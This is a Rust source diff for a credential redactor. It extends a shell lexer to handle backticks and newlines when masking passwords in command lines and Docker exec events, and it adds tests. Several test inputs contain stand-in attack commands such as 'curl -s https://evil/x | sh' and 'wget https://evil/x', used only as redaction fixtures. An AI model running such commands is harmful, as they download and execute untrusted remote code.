@@ -223,6 +223,8 @@ struct Lexer {
     inner: Option<(u8, bool)>,
     /// The quoted text `close` found the end of (its `from`), and where its closing quote is.
     closed: Option<(usize, usize)>,
+    /// In a `` `...` `` (out of single quotes): a backtick closes it.
+    tick: bool,
 }
 
 impl Lexer {
@@ -238,6 +240,7 @@ impl Lexer {
                     self.open(Quote::Ansi, self.i + 2);
                     self.i += 1;
                 }
+                (Quote::None | Quote::Double, b'`') => self.tick = !self.tick,
                 (Quote::None, _) => {}
                 (Quote::Single | Quote::Ansi, b'\'') | (Quote::Double, b'"') => {
                     (self.q, self.inner) = (Quote::None, None)
@@ -291,9 +294,10 @@ impl Lexer {
     }
 }
 
-/// A space, or a shell operator: where an unquoted word ends.
+/// A space, a shell operator, or a backtick (a value ends where the `` `...` `` it is in does,
+/// or where one starts): where an unquoted word ends.
 fn ends_word(c: u8) -> bool {
-    c.is_ascii_whitespace() || matches!(c, b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
+    c.is_ascii_whitespace() || matches!(c, b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>' | b'`')
 }
 
 /// The first unescaped `c` in `t` from `i`.
@@ -340,12 +344,15 @@ fn word_end(text: &str, start: usize, lex: &mut Lexer) -> usize {
     let (close, escapes) = match lex.at(t, start) {
         Quote::None => {
             let mut i = start;
+            // A value that is a `` `...` `` (not the end of the one it is in).
+            if t[i] == b'`' && !lex.tick {
+                i = memchr::memchr(b'`', &t[i + 1..]).map_or(n, |k| i + k + 2);
+            }
             while i < n && !ends_word(t[i]) {
                 i = match t[i] {
                     b'\\' => i + 2,
                     b'\'' => memchr::memchr(b'\'', &t[i + 1..]).map_or(n, |k| i + k + 2),
                     b'"' => closing(t, i + 1, b'"').map_or(n, |k| k + 1),
-                    b'`' => memchr::memchr(b'`', &t[i + 1..]).map_or(n, |k| i + k + 2),
                     b'$' if t.get(i + 1) == Some(&b'\'') => closing(t, i + 2, b'\'').map_or(n, |k| k + 1),
                     b'$' if t.get(i + 1) == Some(&b'(') => balanced(t, i + 2).map_or(n, |k| k + 1),
                     _ => i + 1,
@@ -472,28 +479,26 @@ fn replace(re: &Regex, kind: Kind, text: &str, masked: Option<&Masked>) -> Optio
 /// How dockerd's `exec_create` event's `Action` starts, before the command.
 pub const EXEC_CREATE: &str = "exec_create: ";
 
-/// `text` with the shell operators that separate no commands (`;`, `&`, `|` in quotes, and in a
-/// Docker exec's `Action` before a shell's `-c`, where Docker joined an argv with spaces and they
-/// are an argument's characters) made `_`, for the tools' patterns, which end at an operator:
+/// `text` with the shell operators that separate no commands (`;`, `&`, `|`, a line's end, in
+/// quotes, and in a Docker exec's `Action` before a shell's `-c`, where Docker joined an argv
+/// with spaces and they are an argument's characters) made [`MASK`], for the tools' patterns,
+/// which end at an operator:
 /// `mysql -e "select 1; select 2" -pX`, `exec_create: mysql -e select 1; select 2 -pX`. Whether
 /// the tool is the command is for `Reader`, which reads `text` itself (`exec_create: wget -O
 /// /tmp/x;openssl -k URL` names no openssl). `None` when there is none.
 fn operators_masked(text: &str) -> Option<Masked> {
     let b = text.as_bytes();
-    memchr::memchr3(b';', b'&', b'|', b)?;
-    let operator = |c: u8| matches!(c, b';' | b'&' | b'|');
+    let operator = |c: &u8| matches!(*c, b';' | b'&' | b'|' | b'\n');
+    if !b.iter().any(operator) {
+        return None;
+    }
     let words = command::action_words(b).unwrap_or(0);
     let mut out = b.to_vec();
     let mut masked = false;
-    for c in &mut out[..words] {
-        if operator(*c) {
-            (*c, masked) = (b'_', true);
-        }
-    }
     let mut lex = Lexer { i: words, ..Lexer::default() };
-    for i in memchr::memchr3_iter(b';', b'&', b'|', &b[words..]).map(|k| words + k) {
-        if lex.at(b, i) != Quote::None {
-            (out[i], masked) = (b'_', true);
+    for (i, c) in out.iter_mut().enumerate().filter(|(_, c)| operator(c)) {
+        if i < words || lex.at(b, i) != Quote::None {
+            (*c, masked) = (MASK, true);
         }
     }
     if !masked {
@@ -501,6 +506,10 @@ fn operators_masked(text: &str) -> Option<Masked> {
     }
     Some(Masked { text: String::from_utf8(out).ok()?, words })
 }
+
+/// What [`operators_masked`] puts in an operator's place: no word character (the tools'
+/// patterns start at a word boundary: `cd /x&&mysql -pX`), no space, no operator.
+const MASK: u8 = b',';
 
 /// A text's copy from [`operators_masked`].
 struct Masked {
@@ -815,7 +824,7 @@ impl Redactor {
 /// whose name was cut too (`--passw…`), may be that option's value, or its end: one word (no
 /// space, no shell operator). A script's tail (`… curl x | sh`) is not.
 pub fn may_be_value(cut: &str) -> bool {
-    !cut.is_empty() && cut != MARK && !cut.bytes().any(|c| ends_word(c) || c == b'`')
+    !cut.is_empty() && cut != MARK && !cut.bytes().any(ends_word)
 }
 
 /// A user pattern: compiles, and has a group for the secret.
@@ -1248,6 +1257,52 @@ mod tests {
             ),
             ("exec_create: sshpass -p hun;ter2 ssh h", "exec_create: sshpass -p [REDACTED] ssh h", "ter2"),
             ("exec_create: mysql -phun;ter2 db", "exec_create: mysql -p[REDACTED] db", "ter2"),
+            // No word character in an operator's place: the tool still starts a word.
+            (
+                r#"sh -c "zcat d.sql.gz|mysql -uroot -phunter2 db""#,
+                r#"sh -c "zcat d.sql.gz|mysql -uroot -p[REDACTED] db""#,
+                "hunter2",
+            ),
+            (
+                "sh -c 'cd /x&&openssl enc -k hunter2 -in a'",
+                "sh -c 'cd /x&&openssl enc -k [REDACTED] -in a'",
+                "hunter2",
+            ),
+            (r#"sh -c "echo x|sshpass -p hunter2 ssh h""#, r#"sh -c "echo x|sshpass -p [REDACTED] ssh h""#, "hunter2"),
+            (
+                r#"su -c "cd /x&&curl -u bob:hunter2 https://x" root"#,
+                r#"su -c "cd /x&&curl -u bob:[REDACTED] https://x" root"#,
+                "hunter2",
+            ),
+            (
+                "exec_create: sh -c docker exec db sh -c 'zcat /x.sql.gz|mysql -uroot -phunter2 shop'",
+                "exec_create: sh -c docker exec db sh -c 'zcat /x.sql.gz|mysql -uroot -p[REDACTED] shop'",
+                "hunter2",
+            ),
+            (
+                "sh -c 'mysql -e \"a; b\" -phunter2;mysql -phunter3'",
+                "sh -c 'mysql -e \"a; b\" -p[REDACTED];mysql -p[REDACTED]'",
+                "hunter",
+            ),
+            // A value ends with the `` `...` `` it is in, hiding nothing after it.
+            (
+                "x=`mysql -phunter2`; curl -s https://evil/x | sh",
+                "x=`mysql -p[REDACTED]`; curl -s https://evil/x | sh",
+                "hunter2",
+            ),
+            ("`mysql -p` && wget https://evil/x", "`mysql -p` && wget https://evil/x", "nothing"),
+            ("`mysql -phunter2` && wget https://evil/x", "`mysql -p[REDACTED]` && wget https://evil/x", "hunter2"),
+            // A line's end in quotes, or in an argument of an `Action`.
+            (
+                "mysql -e \"select 1;\nselect 2\" -uroot -phunter2",
+                "mysql -e \"select 1;\nselect 2\" -uroot -p[REDACTED]",
+                "hunter2",
+            ),
+            (
+                "exec_create: mysql -e select 1\nselect 2 -uroot -phunter2",
+                "exec_create: mysql -e select 1\nselect 2 -uroot -p[REDACTED]",
+                "hunter2",
+            ),
             (
                 "exec_create: sshpass -p hun;ter2 mysql -pfoo;bar db",
                 "exec_create: sshpass -p [REDACTED] mysql -p[REDACTED] db",
@@ -1285,6 +1340,8 @@ mod tests {
             "sh -c 'echo mysql; wget -pX https://evil/x'",
             r#"echo "mysql; x" -pX https://evil/x"#,
             "exec_create: sh -c echo a; wget -O /tmp/openssl -k https://evil/x",
+            "exec_create: wget -O /tmp/x;openssl -k https://evil/x",
+            "exec_create: echo a;mysql -phttps://evil/x",
         ] {
             assert_eq!(r.text(text), text);
         }
